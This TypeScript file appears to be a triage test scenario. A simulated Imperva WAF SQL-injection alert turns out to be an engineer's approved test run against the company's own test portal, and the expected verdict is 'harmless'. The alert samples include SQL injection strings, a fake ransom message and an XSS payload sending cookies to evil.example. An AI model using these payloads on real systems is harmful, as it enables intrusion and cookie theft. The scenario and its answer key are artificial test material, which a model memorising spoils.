// Imperva blocks a burst of SQL injection with an attacker's boasts in it; it comes from the own office, where a release is tested.
import { alert, by, clean, connected, harmless, ran, situation } from '../../shorthand.ts'

export const impervaInjectionStringsFromOurOwnDesk = situation(
  'imperva-injection-strings-from-our-own-desk',
  'poisoning',
  'Imperva Cloud WAF: SQL injection attack',
  (setting) => {
    const jonas = setting.person('jonas.brandt')
    const nadia = setting.person('nadia.petrova')
    const oskar = setting.person('oskar.falk')
    const laptop = setting.laptopOf('jonas.brandt')
    const at = setting.ago({ hours: 1, minutes: 34 })
    const asked = setting.ago({ days: 2, hours: 3 })
    const site = 'service-test.havskoginstruments.com'
    const edge = '45.60.121.77'
    const round = (time: number) => [
      ran(
        laptop,
        time,
        'newman.exe',
        'newman run serviceportal-negative.json -e test.env.json -d elaka_strangar.csv --delay-request 150',
        {
          ...by(jonas),
          FolderPath: 'C:\\Dev\\node\\bin',
          InitiatingProcessFileName: 'powershell.exe',
          InitiatingProcessAccountName: jonas.account,
        },
      ),
      connected(laptop, time + 4000, edge, {
        RemoteUrl: site,
        InitiatingProcessFileName: 'newman.exe',
        InitiatingProcessAccountName: jonas.account,
      }),
    ]
    return {
      alerts: [
        alert(setting, at + 3 * 60_000, 'imperva_cloud_waf', 'SQL Injection', {
          notification: 'Security event - threshold exceeded',
          account_id: 1_884_207,
          account_name: 'Havskog Instruments AB',
          site_id: 77_120_318,
          site_name: site,
          event_id: setting.seeded.code('imperva event', 18),
          incident_id: `${setting.seeded.number('imperva incident', 1000, 9999)}-${setting.seeded.number('imperva incident two', 100_000, 999_999)}`,
          first_event: setting.iso(at),
          last_event: setting.iso(at + 150_000),
          severity: 'CRITICAL',
          events_count: 212,
          events_blocked_percent: 100,
          rule: { id: 'api.threats.sql_injection', name: 'SQL Injection', action: 'api.threats.action.block_request' },
          client: {
            ip: '193.46.212.10',
            country: 'SE',
            asn: 'AS51188',
            app: 'Bot - Hacking Tool',
            app_id: 812,
            user_agent: 'PostmanRuntime/7.39.0',
            cookies: 'yes',
            javascript: 'no',
          },
          dominant_attack_tool: { name: 'Hacking Tool', type: 'HACKING_TOOL' },
          target: { host: site, urls: ['/api/arende', '/api/login', '/api/sok'], method: 'POST', pop: 'arn' },
          reputation: ['none'],
          samples: [
            { url: '/api/login', param: 'user', pattern: "admin'--", code: 403 },
            { url: '/api/sok', param: 'q', pattern: "1'; DROP TABLE kunder; --", code: 403 },
            { url: '/api/arende', param: 'titel', pattern: "' UNION SELECT login, pwhash FROM users --", code: 403 },
            {
              url: '/api/arende',
              param: 'beskrivning',
              pattern: "Hacked by N0rthCrew. We own your network. Pay 4 BTC or all drawings go public' OR '1'='1",
              code: 403,
            },
            {
              url: '/api/arende',
              param: 'beskrivning',
              pattern: '<script>fetch("//evil.example/"+document.cookie)</script>',
              code: 403,
            },
          ],
          tls: { version: 'TLSv1.3', ja3: setting.seeded.hex('ja3 newman', 32), sni: site },
          origin: { server: 'hvs-test-origin', response_codes: {}, reached: 0 },
          timeline: [
            { minute: 0, requests: 84 },
            { minute: 1, requests: 86 },
            { minute: 2, requests: 42 },
          ],
          session_ids: [setting.seeded.code('imperva session one', 18), setting.seeded.code('imperva session two', 18)],
          owasp: ['A03:2021 Injection'],
          similar_events_7d: 3,
          mitigation: { blocked: 212, alerted: 0, captcha: 0 },
          policies: [{ id: 40_117, name: 'WAF default - block', revision: 12 }],
          siem: { format: 'JSON', connection: 'hvs-s3-siem', config_id: 4412 },
          recipients: ['soc@havskoginstruments.com', 'web-team@havskoginstruments.com'],
          insights:
            'An attack of this type tries to read or change the database behind a web form. Investigate the client.',
          link: `https://management.service.imperva.com/attack-analytics/incident?caid=1884207&site=77120318`,
        }),
      ],
      facts: {
        intelligence: [clean(setting, 'ip', edge)],
        investigations: [
          {
            key: 'portal 4.2',
            title: 'Serviceportalen 4.2 inför släpp',
            status: 'WAITING',
            source: 'USER',
            priority: 'LOW',
            disposition: 'UNDECIDED',
            assignee: oskar,
            at: asked,
            tags: ['Release'],
            alerts: [],
            comments: [
              {
                author: 'Nadia Petrova',
                body: 'Formulären är klara i testmiljön. Innan vi går ut vill Sofia att någon skriver in allt dumt man kan komma på, apostrofer, DROP TABLE, hotbrev, skript, och att vi ser att WAF:en tar det.',
                at: asked,
              },
              {
                author: 'Jonas Brandt',
                body: `Jag kör listan "elaka strängar" i Postman/newman från min dator mot service-test, några varv den här veckan. Sista varvet på ${setting.iso(at).slice(0, 10)}. Bara testmiljön, inga kunddata där.`,
                at: asked + 50 * 60_000,
              },
              {
                author: 'Oskar Falk',
                body: 'Okej för min del. Ni syns som kontoret utåt (193.46.212.10) så Imperva kommer att skrika, jag låter ärendet stå tills ni sagt att ni är klara.',
                at: asked + 80 * 60_000,
              },
            ],
          },
        ],
        telemetry: [
          ...round(setting.ago({ days: 1, hours: 4 })),
          ...round(setting.ago({ days: 1, hours: 2 })),
          ran(laptop, at - 25 * 60_000, 'Postman.exe', 'Postman.exe', {
            ...by(jonas),
            InitiatingProcessFileName: 'explorer.exe',
          }),
          ...round(at - 2000),
          ran(laptop, at + 20 * 60_000, 'teams.exe', 'teams.exe', {
            ...by(jonas),
            InitiatingProcessFileName: 'explorer.exe',
          }),
          ran(setting.laptopOf(nadia.key), at - 60 * 60_000, 'Code.exe', 'Code.exe C:\\Dev\\portal', {
            ...by(nadia),
            InitiatingProcessFileName: 'explorer.exe',
          }),
        ],
      },
      expected: harmless,
      because:
        'The client is the own office, and behind it the laptop of the engineer ran the list of nasty strings against just this test site to the minute, as on the day before. The open ticket says who does it, from where, against what and on which day, and the administrator agreed. The threats are part of the list; everything was refused.',
    }
  },
)
